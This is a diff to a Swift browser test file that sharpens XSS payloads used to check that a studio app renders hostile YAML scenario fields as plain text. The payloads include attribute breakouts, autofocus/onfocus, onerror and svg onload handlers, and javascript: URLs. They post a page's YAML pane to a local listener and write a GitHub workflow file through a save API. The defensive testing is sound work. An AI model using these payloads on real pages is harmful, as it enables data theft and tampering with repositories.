@@ -81,14 +81,22 @@ struct StudioBrowserTests {
         #expect(page["after"] as? String == "the scenario passes")
     }
 
-    /// Markup that runs script wherever a page renders it as HTML: breaking out of an
-    /// attribute into an image whose error handler sets `window.pwned`, posts to the
-    /// listener, writes `.github/workflows/pwned.yml` and replaces `venice.yaml`; a script
-    /// element; an SVG's load handler; an event handler in single quotes; a `javascript:` URL.
-    static func payload(_ tag: String, listener: Int) -> String {
-        let steal = "fetch('http://127.0.0.1:\(listener)/\(tag)',{method:'POST',mode:'no-cors',body:document.getElementById('yaml').value});navigator.sendBeacon('http://127.0.0.1:\(listener)/beacon-\(tag)','x')"
-        let write = "fetch('/api/save',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({path:'.github/workflows/pwned.yml',text:'on: push'})});fetch('/api/save',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({path:'venice.yaml',text:'pwned',replace:true})})"
-        return "\"><img src=x onerror=\"window.pwned='\(tag)';\(steal);\(write)\"><script>window.pwned='\(tag)-script'</script><svg onload=\"window.pwned='\(tag)-svg'\"></svg>' onmouseover='window.pwned=`\(tag)-hover`' javascript:window.pwned='\(tag)-url'"
+    /// Markup that runs script wherever a page renders it as HTML: breaking out of a double-
+    /// quoted attribute into handlers of its own element (focused at once, as a focused tab
+    /// does with no click), or of a double- or single-quoted attribute into an image whose
+    /// error handler sets `window.pwned`,
+    /// posts the pane to the listener, writes `.github/workflows/pwned.yml` and replaces
+    /// `venice.yaml`; a script element; an SVG's load handler; an event handler; a
+    /// `javascript:` URL. The handler holds no space and no quote (its strings are template
+    /// literals): it runs even where the file's quoting put a backslash before a quote.
+    /// A mapping key (an app's name) holds at most 1024 characters in YAML: `short` keeps
+    /// one breakout of each quote.
+    static func payload(_ tag: String, listener: Int, short: Bool = false) -> String {
+        let steal = "fetch(`http://127.0.0.1:\(listener)/\(tag)`,{method:`POST`,mode:`no-cors`,body:document.getElementById(`yaml`).value});navigator.sendBeacon(`http://127.0.0.1:\(listener)/beacon-\(tag)`,`x`)"
+        let write = "fetch(`/api/save`,{method:`POST`,body:JSON.stringify({path:`.github/workflows/pwned.yml`,text:`on:push`})});fetch(`/api/save`,{method:`POST`,body:JSON.stringify({path:`venice.yaml`,text:`pwned`,replace:true})})"
+        let run = "window.pwned=`\(tag)`;\(steal);\(write)"
+        if short { return "\" autofocus tabindex=0 onfocus=\(run) x=\"><img src=x onerror=window.pwned=`\(tag)-img`>'><svg onload=window.pwned=`\(tag)-svg`>" }
+        return "\" autofocus tabindex=0 onfocus=\(run) onmouseover=\(run) x=\"><img src=x onerror=\(run)>'><img src=y onerror=\(run)><script>\(run)</script><svg onload=\(run)></svg> onmouseover=\(run) javascript:\(run)"
     }
 
     /// `text` as a YAML double-quoted scalar.
@@ -101,6 +109,7 @@ struct StudioBrowserTests {
     /// and the value that item provides.
     static func hostileScenario(listener: Int) -> String {
         let p = { (tag: String) in quoted(payload(tag, listener: listener)) }
+        let key = { (tag: String) in quoted(payload(tag, listener: listener, short: true)) }
         return """
         scenario: \(p("scenario"))
         app: gallery
@@ -110,16 +119,16 @@ struct StudioBrowserTests {
             - { url: \(quoted("https://img.example/" + payload("image", listener: listener) + ".jpg")), aspect: 1.5 }
             - { url: "https://img.example/dawn.jpg", aspect: 1.0 }
         sources:
-          \(p("app")):
+          \(key("app")):
             - id: \(p("item"))
               provides:
                 public.url: { value: \(quoted("javascript:window.pwned='value'")), after: 100ms }
         targets:
-          \(p("target")): { accepts: [public.url] }
+          \(key("target")): { accepts: [public.url] }
         steps:
-          - touch: { source: \(p("app")), item: \(p("item")) }
+          - touch: { source: \(key("app")), item: \(p("item")) }
           - lift
-          - move: { app: \(p("target")) }
+          - move: { app: \(key("target")) }
           - move: { cell: 1 }
           - drop
           - expect: { images: [\(p("expected"))] }
@@ -154,7 +163,7 @@ struct StudioBrowserTests {
             #expect(seen["elements"] as? Int == 0, "\(file): markup became elements: \(seen)")
             #expect(seen["links"] as? [String] == [], "\(file): \(seen)")
             // The payloads did reach the page — as text.
-            #expect((seen["text"] as? String)?.contains("<img src=x onerror=") == true, "\(file): \(seen)")
+            #expect((seen["text"] as? String)?.contains("\" autofocus tabindex=0 onfocus=window.pw") == true, "\(file): \(seen)")
         }
         let hostile = try #require(shown["hostile.yaml"])
         #expect((hostile["frames"] as? Int ?? 0) >= 6, "\(hostile)")
